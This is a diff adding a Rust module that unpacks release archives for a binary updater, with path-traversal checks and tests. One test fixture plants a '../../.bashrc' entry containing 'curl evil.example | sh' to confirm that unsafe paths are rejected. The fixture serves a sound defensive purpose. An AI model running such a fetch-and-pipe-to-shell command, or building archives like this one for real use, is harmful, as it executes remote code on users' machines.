@@ -0,0 +1,633 @@
+use std::{
+    io::{Cursor, Read},
+    ops::ControlFlow,
+    path::Path,
+};
+
+use anyhow::{Context, Result};
+use flate2::read::GzDecoder;
+
+/// Suffix of a zstd-compressed binary (e.g. `ampd-linux-x86_64.zst`),
+/// preferred over the bare binary when a release publishes both.
+pub const COMPRESSED_SUFFIX: &str = ".zst";
+
+/// Leading bytes of a zstd frame.
+const ZSTD_MAGIC: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd];
+
+/// Archive formats a release asset may be published in, in the order their
+/// suffixes are tried.
+pub static FORMATS: &[&dyn ArchiveFormat] = &[&TarGz, &TarXz, &TarZst, &Zip];
+
+#[derive(Debug)]
+pub enum ArchiveError {
+    /// The archive holds no file named after the binary, and more than one
+    /// file, so there's no way to tell which one is the binary.
+    BinaryNotFound {
+        binary: String,
+        entries: Vec<String>,
+    },
+    /// An entry's path is absolute or climbs out of the archive with `..`.
+    UnsafePath { format: String, path: String },
+}
+
+impl std::fmt::Display for ArchiveError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::BinaryNotFound { binary, entries } => {
+                writeln!(f, "Archive does not contain {}", binary)?;
+                if entries.is_empty() {
+                    write!(f, "  The archive has no files")?;
+                } else {
+                    write!(f, "  Files in the archive:")?;
+                    for entry in entries {
+                        write!(f, "\n    - {}", entry)?;
+                    }
+                }
+            }
+            Self::UnsafePath { format, path } => {
+                writeln!(f, "Archive contains an unsafe path")?;
+                writeln!(f, "  Format: {}", format)?;
+                writeln!(f, "  Path: {}", path)?;
+                writeln!(f)?;
+                write!(
+                    f,
+                    "  Entries must be relative and stay inside the archive; the release may have been tampered with."
+                )?;
+            }
+        }
+        Ok(())
+    }
+}
+
+impl std::error::Error for ArchiveError {}
+
+/// An entry read from an archive.
+pub struct ArchiveEntry<'a> {
+    /// Path as stored in the archive, not yet checked
+    pub path: &'a str,
+    /// Whether this is a regular file, as opposed to a directory or link
+    pub is_file: bool,
+    pub contents: &'a mut dyn Read,
+}
+
+/// Called with each entry of an archive; `Break` stops reading it.
+pub type EntryVisitor<'a> = dyn FnMut(ArchiveEntry<'_>) -> Result<ControlFlow<()>> + 'a;
+
+/// A packaging format release assets may be published in.
+///
+/// Supporting a new format only takes an implementation listed in
+/// [`FORMATS`]: its suffixes are then looked for in releases, and
+/// [`unpack_binary`] detects it and extracts binaries from it.
+pub trait ArchiveFormat: Sync {
+    /// Name shown in errors (e.g. `tar.gz`)
+    fn name(&self) -> &'static str;
+
+    /// Asset name suffixes of this format, in order of preference.
+    fn suffixes(&self) -> &'static [&'static str];
+
+    /// Whether `data` is in this format, judged by its leading bytes.
+    fn detect(&self, data: &[u8]) -> bool;
+
+    /// Stream the archive's entries to `visit` in order, decompressing as it
+    /// goes, until `visit` breaks or the archive ends.
+    fn entries(&self, data: &[u8], visit: &mut EntryVisitor<'_>) -> Result<()>;
+}
+
+/// Gzipped tarball (`.tar.gz`, `.tgz`).
+pub struct TarGz;
+
+impl ArchiveFormat for TarGz {
+    fn name(&self) -> &'static str {
+        "tar.gz"
+    }
+
+    fn suffixes(&self) -> &'static [&'static str] {
+        &[".tar.gz", ".tgz"]
+    }
+
+    fn detect(&self, data: &[u8]) -> bool {
+        data.starts_with(&[0x1f, 0x8b])
+    }
+
+    fn entries(&self, data: &[u8], visit: &mut EntryVisitor<'_>) -> Result<()> {
+        tar_entries(self.name(), GzDecoder::new(data), visit)
+    }
+}
+
+/// xz-compressed tarball (`.tar.xz`).
+pub struct TarXz;
+
+impl ArchiveFormat for TarXz {
+    fn name(&self) -> &'static str {
+        "tar.xz"
+    }
+
+    fn suffixes(&self) -> &'static [&'static str] {
+        &[".tar.xz"]
+    }
+
+    fn detect(&self, data: &[u8]) -> bool {
+        data.starts_with(&[0xfd, b'7', b'z', b'X', b'Z', 0x00])
+    }
+
+    fn entries(&self, data: &[u8], visit: &mut EntryVisitor<'_>) -> Result<()> {
+        tar_entries(self.name(), lzma_rust2::XzReader::new(data, true), visit)
+    }
+}
+
+/// zstd-compressed tarball (`.tar.zst`).
+///
+/// Told apart from a single zstd-compressed binary by the tar header at the
+/// start of the decompressed data.
+pub struct TarZst;
+
+impl ArchiveFormat for TarZst {
+    fn name(&self) -> &'static str {
+        "tar.zst"
+    }
+
+    fn suffixes(&self) -> &'static [&'static str] {
+        &[".tar.zst"]
+    }
+
+    fn detect(&self, data: &[u8]) -> bool {
+        if !data.starts_with(ZSTD_MAGIC) {
+            return false;
+        }
+        let Ok(decoder) = zstd::stream::read::Decoder::new(data) else {
+            return false;
+        };
+        let mut header = Vec::with_capacity(512);
+        if decoder.take(512).read_to_end(&mut header).is_err() {
+            return false;
+        }
+        // POSIX and GNU headers both carry "ustar" at offset 257
+        header.get(257..262) == Some(b"ustar".as_slice())
+    }
+
+    fn entries(&self, data: &[u8], visit: &mut EntryVisitor<'_>) -> Result<()> {
+        let decoder =
+            zstd::stream::read::Decoder::new(data).context("Failed to read tar.zst archive")?;
+        tar_entries(self.name(), decoder, visit)
+    }
+}
+
+/// Zip archive (`.zip`).
+pub struct Zip;
+
+impl ArchiveFormat for Zip {
+    fn name(&self) -> &'static str {
+        "zip"
+    }
+
+    fn suffixes(&self) -> &'static [&'static str] {
+        &[".zip"]
+    }
+
+    fn detect(&self, data: &[u8]) -> bool {
+        data.starts_with(b"PK\x03\x04")
+    }
+
+    fn entries(&self, data: &[u8], visit: &mut EntryVisitor<'_>) -> Result<()> {
+        let mut archive =
+            zip::ZipArchive::new(Cursor::new(data)).context("Failed to read zip archive")?;
+        for index in 0..archive.len() {
+            let mut entry = archive
+                .by_index(index)
+                .context("Failed to read zip entry")?;
+            let path = entry.name().to_string();
+            let is_file = entry.is_file() && !entry.is_symlink();
+            let entry = ArchiveEntry {
+                path: &path,
+                is_file,
+                contents: &mut entry,
+            };
+            if visit(entry)?.is_break() {
+                break;
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Asset name suffixes of every supported archive format, in the order
+/// they're tried (e.g. `.tar.gz`).
+pub fn archive_suffixes() -> impl Iterator<Item = &'static str> {
+    FORMATS
+        .iter()
+        .flat_map(|format| format.suffixes().iter().copied())
+}
+
+/// The archive format of `data`, or `None` for anything else (such as a
+/// bare executable or a single compressed binary).
+pub fn detect(data: &[u8]) -> Option<&'static dyn ArchiveFormat> {
+    FORMATS.iter().copied().find(|format| format.detect(data))
+}
+
+/// Whether `data` is an archive or compressed, so [`unpack_binary`] returns
+/// something other than `data` itself.
+pub fn is_packed(data: &[u8]) -> bool {
+    detect(data).is_some() || data.starts_with(ZSTD_MAGIC)
+}
+
+/// Return the executable `binary` from an asset, decompressing or extracting
+/// it when the asset is compressed or an archive and passing a bare binary
+/// through unchanged.
+///
+/// Inside an archive the file is matched by name at any depth (e.g.
+/// `ampd-linux-x86_64/ampd`); an archive holding a single file yields that
+/// file whatever its name. Archives are streamed, stopping at the binary,
+/// and any entry read before it with an absolute path or a `..` component
+/// fails extraction. Links are never followed. zstd frames carrying a
+/// content checksum are checked against the decompressed binary.
+pub fn unpack_binary(data: Vec<u8>, binary: &str) -> Result<Vec<u8>> {
+    let Some(format) = detect(&data) else {
+        if data.starts_with(ZSTD_MAGIC) {
+            return zstd::stream::decode_all(data.as_slice())
+                .with_context(|| format!("Failed to decompress {}", binary));
+        }
+        return Ok(data);
+    };
+
+    let mut found = None;
+    // Contents of the first file, kept only while it's the only one
+    let mut only = None;
+    let mut files = Vec::new();
+    format.entries(&data, &mut |entry| {
+        if !is_safe_path(entry.path) {
+            return Err(ArchiveError::UnsafePath {
+                format: format.name().to_string(),
+                path: entry.path.to_string(),
+            }
+            .into());
+        }
+        if !entry.is_file {
+            return Ok(ControlFlow::Continue(()));
+        }
+
+        let matches = Path::new(entry.path)
+            .file_name()
+            .is_some_and(|name| name == binary);
+        files.push(entry.path.to_string());
+        if !matches && files.len() > 1 {
+            only = None;
+            return Ok(ControlFlow::Continue(()));
+        }
+        let mut contents = Vec::new();
+        entry
+            .contents
+            .read_to_end(&mut contents)
+            .with_context(|| format!("Failed to extract {}", entry.path))?;
+        if matches {
+            found = Some(contents);
+            return Ok(ControlFlow::Break(()));
+        }
+        only = Some(contents);
+        Ok(ControlFlow::Continue(()))
+    })?;
+
+    found.or(only).ok_or_else(|| {
+        ArchiveError::BinaryNotFound {
+            binary: binary.to_string(),
+            entries: files,
+        }
+        .into()
+    })
+}
+
+/// Rebuild a binary from the installed `base` binary and a zstd patch made
+/// with `zstd --patch-from=<base> <new>`.
+///
+/// Fails when `base` is not the binary the patch was made from, or the
+/// patch frame's content checksum doesn't match the rebuilt binary.
+pub fn apply_patch(base: &[u8], patch: &[u8]) -> Result<Vec<u8>> {
+    let mut decoder = zstd::stream::read::Decoder::with_dictionary(patch, base)
+        .context("Failed to read zstd patch")?;
+    // Patches of large binaries reference data far back in the base
+    decoder
+        .window_log_max(31)
+        .context("Failed to configure zstd patch decoder")?;
+
+    let mut binary = Vec::new();
+    decoder
+        .read_to_end(&mut binary)
+        .context("Failed to apply zstd patch")?;
+    Ok(binary)
+}
+
+/// Stream the entries of a tarball read from `reader` to `visit`.
+fn tar_entries(format: &str, reader: impl Read, visit: &mut EntryVisitor<'_>) -> Result<()> {
+    let mut archive = tar::Archive::new(reader);
+    let entries = archive
+        .entries()
+        .with_context(|| format!("Failed to read {} archive", format))?;
+    for entry in entries {
+        let mut entry = entry.with_context(|| format!("Failed to read {} entry", format))?;
+        // The raw path, since `Entry::path` would already normalize it
+        let path = String::from_utf8_lossy(&entry.path_bytes()).to_string();
+        let is_file = entry.header().entry_type().is_file();
+        let entry = ArchiveEntry {
+            path: &path,
+            is_file,
+            contents: &mut entry,
+        };
+        if visit(entry)?.is_break() {
+            break;
+        }
+    }
+    Ok(())
+}
+
+/// Whether an archive entry path is relative and stays inside the archive.
+fn is_safe_path(path: &str) -> bool {
+    let bytes = path.as_bytes();
+    let absolute = path.starts_with(['/', '\\'])
+        || (bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':');
+    !path.is_empty()
+        && !absolute
+        && !path.contains('\0')
+        && path.split(['/', '\\']).all(|component| component != "..")
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use flate2::{Compression, write::GzEncoder};
+    use proptest::prelude::*;
+
+    use super::*;
+
+    /// An uncompressed tarball, with paths written as-is so tests can build
+    /// archives the `tar` crate would refuse to.
+    fn tar(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut builder = tar::Builder::new(Vec::new());
+        for (name, contents) in files {
+            let mut header = tar::Header::new_gnu();
+            header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+            header.set_size(contents.len() as u64);
+            header.set_mode(0o755);
+            header.set_cksum();
+            builder
+                .append(&header, *contents)
+                .expect("append tar entry");
+        }
+        builder.into_inner().expect("finish tar")
+    }
+
+    fn tar_gz(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+        encoder.write_all(&tar(files)).expect("compress");
+        encoder.finish().expect("finish tar.gz")
+    }
+
+    fn tar_xz(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut writer = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::default())
+            .expect("xz writer");
+        writer.write_all(&tar(files)).expect("compress");
+        writer.finish().expect("finish tar.xz")
+    }
+
+    fn tar_zst(files: &[(&str, &[u8])]) -> Vec<u8> {
+        zstd::stream::encode_all(tar(files).as_slice(), 3).expect("compress")
+    }
+
+    fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        for (name, contents) in files {
+            writer
+                .start_file(*name, zip::write::SimpleFileOptions::default())
+                .expect("start zip entry");
+            writer.write_all(contents).expect("write zip entry");
+        }
+        writer.finish().expect("finish zip").into_inner()
+    }
+
+    #[test]
+    fn unpack_binary_with_bare_binary_returns_it_unchanged() {
+        //* Given
+        let data = b"\x7fELF binary".to_vec();
+
+        //* When
+        let result = unpack_binary(data.clone(), "ampd").expect("unpack");
+
+        //* Then
+        assert_eq!(result, data);
+    }
+
+    #[test]
+    fn unpack_binary_with_tar_gz_extracts_named_file() {
+        //* Given
+        let data = tar_gz(&[
+            ("ampd-linux-x86_64/LICENSE", b"license"),
+            ("ampd-linux-x86_64/ampd", b"ampd binary"),
+        ]);
+
+        //* When
+        let result = unpack_binary(data, "ampd").expect("unpack");
+
+        //* Then
+        assert_eq!(result, b"ampd binary");
+    }
+
+    #[test]
+    fn unpack_binary_with_tar_xz_and_tar_zst_extracts_named_file() {
+        //* Given
+        let files: &[(&str, &[u8])] = &[
+            ("ampd-linux-x86_64/LICENSE", b"license"),
+            ("ampd-linux-x86_64/ampd", b"ampd binary"),
+        ];
+
+        //* When
+        let xz = unpack_binary(tar_xz(files), "ampd").expect("unpack tar.xz");
+        let zst = unpack_binary(tar_zst(files), "ampd").expect("unpack tar.zst");
+
+        //* Then
+        assert_eq!(xz, b"ampd binary");
+        assert_eq!(zst, b"ampd binary");
+    }
+
+    #[test]
+    fn unpack_binary_with_traversal_entry_fails_with_unsafe_path() {
+        //* Given
+        let data = tar_gz(&[
+            ("../../.bashrc", b"curl evil.example | sh"),
+            ("ampd", b"ampd binary"),
+        ]);
+
+        //* When
+        let result = unpack_binary(data, "ampd");
+
+        //* Then
+        let err = result.expect_err("entries escaping the archive should fail");
+        assert!(matches!(
+            err.downcast_ref::<ArchiveError>(),
+            Some(ArchiveError::UnsafePath { path, .. }) if path == "../../.bashrc"
+        ));
+    }
+
+    #[test]
+    fn unpack_binary_with_single_file_zip_extracts_it() {
+        //* Given
+        let data = zip(&[("ampd-linux-x86_64", b"ampd binary")]);
+
+        //* When
+        let result = unpack_binary(data, "ampd").expect("unpack");
+
+        //* Then
+        assert_eq!(result, b"ampd binary");
+    }
+
+    #[test]
+    fn unpack_binary_with_zstd_decompresses_it() {
+        //* Given
+        let mut encoder = zstd::stream::Encoder::new(Vec::new(), 3).expect("encoder");
+        encoder.include_checksum(true).expect("enable checksum");
+        encoder.write_all(b"ampd binary").expect("compress");
+        let data = encoder.finish().expect("finish zstd");
+
+        //* When
+        let result = unpack_binary(data, "ampd").expect("unpack");
+
+        //* Then
+        assert_eq!(result, b"ampd binary");
+    }
+
+    #[test]
+    fn unpack_binary_with_corrupt_zstd_fails() {
+        //* Given
+        let mut encoder = zstd::stream::Encoder::new(Vec::new(), 3).expect("encoder");
+        encoder.include_checksum(true).expect("enable checksum");
+        encoder.write_all(b"ampd binary").expect("compress");
+        let mut data = encoder.finish().expect("finish zstd");
+        // Flip a bit of the trailing content checksum
+        let last = data.len() - 1;
+        data[last] ^= 0x01;
+
+        //* When
+        let result = unpack_binary(data, "ampd");
+
+        //* Then
+        assert!(
+            result.is_err(),
+            "a checksum mismatch should fail decompression"
+        );
+    }
+
+    #[test]
+    fn apply_patch_with_matching_base_rebuilds_new_binary() {
+        //* Given
+        let base: Vec<u8> = (0..200_000u32).map(|i| (i * 7 % 251) as u8).collect();
+        let mut new = base.clone();
+        new[1000..1016].copy_from_slice(b"patched section!");
+        let mut encoder =
+            zstd::stream::Encoder::with_dictionary(Vec::new(), 19, &base).expect("encoder");
+        encoder.include_checksum(true).expect("enable checksum");
+        encoder.write_all(&new).expect("compress");
+        let patch = encoder.finish().expect("finish patch");
+
+        //* When
+        let result = apply_patch(&base, &patch).expect("apply patch");
+
+        //* Then
+        assert_eq!(result, new);
+        assert!(
+            patch.len() < new.len() / 10,
+            "a patch should be much smaller than the binary"
+        );
+    }
+
+    #[test]
+    fn unpack_binary_without_matching_file_fails_with_binary_not_found() {
+        //* Given
+        let data = zip(&[("README.md", b"readme"), ("LICENSE", b"license")]);
+
+        //* When
+        let result = unpack_binary(data, "ampd");
+
+        //* Then
+        let err = result.expect_err("ambiguous archives should fail");
+        assert!(matches!(
+            err.downcast_ref::<ArchiveError>(),
+            Some(ArchiveError::BinaryNotFound { entries, .. }) if entries.len() == 2
+        ));
+    }
+
+    /// Path components an attacker might use, mixed with ordinary ones.
+    fn entry_path() -> impl Strategy<Value = String> {
+        let component = prop_oneof![
+            Just("..".to_string()),
+            Just(".".to_string()),
+            Just(String::new()),
+            Just("ampd".to_string()),
+            Just("C:".to_string()),
+            "[a-z\\\\]{1,8}",
+        ];
+        (any::<bool>(), prop::collection::vec(component, 1..5)).prop_map(
+            |(absolute, components)| {
+                let path = components.join("/");
+                if absolute { format!("/{}", path) } else { path }
+            },
+        )
+    }
+
+    proptest! {
+        #[test]
+        fn unpack_binary_with_malicious_entries_never_returns_escaping_file(
+            paths in prop::collection::hash_set(entry_path(), 1..4),
+            use_zip in any::<bool>(),
+        ) {
+            //* Given
+            let paths: Vec<String> = paths.into_iter().collect();
+            let files: Vec<(&str, &[u8])> =
+                paths.iter().map(|path| (path.as_str(), b"payload".as_slice())).collect();
+            let data = if use_zip { zip(&files) } else { tar_gz(&files) };
+
+            //* When
+            let result = unpack_binary(data, "ampd");
+
+            //* Then
+            let first_unsafe = paths.iter().position(|path| !is_safe_path(path));
+            let first_match = paths
+                .iter()
+                .position(|path| Path::new(path).file_name().is_some_and(|n| n == "ampd"));
+            if let Some(index) = first_unsafe
+                && first_match.is_none_or(|found| index <= found)
+            {
+                let is_unsafe_path = matches!(
+                    result.as_ref().map_err(|err| err.downcast_ref::<ArchiveError>()),
+                    Err(Some(ArchiveError::UnsafePath { .. }))
+                );
+                prop_assert!(is_unsafe_path, "expected UnsafePath, got {:?}", result);
+            }
+        }
+
+        #[test]
+        fn unpack_binary_with_corrupt_archive_fails_without_panicking(
+            format in 0..FORMATS.len(),
+            cut in 0usize..400,
+            flip in any::<(usize, u8)>(),
+        ) {
+            //* Given
+            let files: &[(&str, &[u8])] = &[("dir/ampd", b"ampd binary"), ("LICENSE", b"license")];
+            let mut data = match FORMATS[format].name() {
+                "tar.gz" => tar_gz(files),
+                "tar.xz" => tar_xz(files),
+                "tar.zst" => tar_zst(files),
+                _ => zip(files),
+            };
+            data.truncate(data.len().saturating_sub(cut).max(16));
+            let (index, mask) = flip;
+            let index = 8 + index % (data.len() - 8);
+            data[index] ^= mask;
+
+            //* When
+            let result = unpack_binary(data, "ampd");
+
+            //* Then
+            if let Ok(binary) = result {
+                prop_assert!(binary.len() <= 1 << 20);
+            }
+        }
+    }
+}